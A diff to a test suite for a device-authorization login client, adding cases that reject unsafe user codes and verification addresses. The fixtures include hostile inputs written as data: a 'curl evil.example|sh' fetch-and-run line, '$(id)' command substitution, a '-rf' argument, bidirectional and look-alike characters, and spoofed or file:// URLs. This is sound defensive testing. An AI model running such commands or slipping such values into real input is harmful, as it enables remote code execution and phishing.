@@ -219,6 +219,13 @@ describe('a code that cannot be shown', () => {
     ['a page that is a script', { verification_uri: 'javascript:alert(1)' }],
     ['a code with a line break', { user_code: 'ABCD\nEnter it at evil.example' }],
     ['a code without end', { user_code: 'A'.repeat(1000) }],
+    ['a code of 25 letters', { user_code: 'A'.repeat(25) }],
+    ['a code to be run', { user_code: 'curl evil.example|sh #' }],
+    ['a code with a dollar', { user_code: 'AB-$(id)' }],
+    ['a code with a bidirectional sign', { user_code: 'ABCD\u202eEFGH' }],
+    ['a code with letters of another script', { user_code: 'WDJB-МЈНТ' }],
+    ['a code that begins with a dash', { user_code: '-rf' }],
+    ['a page with user information', { verification_uri: 'https://id.example.com@evil.example/device' }],
     ['no code', { user_code: undefined }],
   ])('%s', async (_name, answer) => {
     const { outcome, askedAt } = await polled([success], answer);
@@ -226,7 +233,21 @@ describe('a code that cannot be shown', () => {
     expect(askedAt).toEqual([]);
   });
 
-  it('is shown without the address that is not fit to be opened', async () => {
+  it.each(['WDJB-MJHT', '123 456 789', 'abcd1234', 'A', 'ABCD-EFGH-IJKL-MNOP-QRST'])(
+    'is not %s',
+    async (userCode) => {
+      const { outcome } = await polled([success], { user_code: userCode });
+      expect(outcome).toMatchObject({ accessToken: expect.any(String) as string });
+    },
+  );
+
+  it.each([
+    'file:///etc/passwd',
+    'https://evil.example/device?user_code=WDJB-MJHT',
+    'https://id.example.com.evil.example/device',
+    'https://id.example.com:8443/device',
+    'https://user@id.example.com/device',
+  ])('is shown without the address %s, which is not the page’s', async (complete) => {
     const shown: DeviceCode[] = [];
     server = await listen((request, response) => {
       if (request.url === '/device') {
@@ -234,7 +255,7 @@ describe('a code that cannot be shown', () => {
           device_code: 'd',
           user_code: 'WDJB-MJHT',
           verification_uri: 'https://id.example.com/device',
-          verification_uri_complete: 'file:///etc/passwd',
+          verification_uri_complete: complete,
           expires_in: 30,
         });
       } else json(response, 400, { error: 'authorization_pending' });
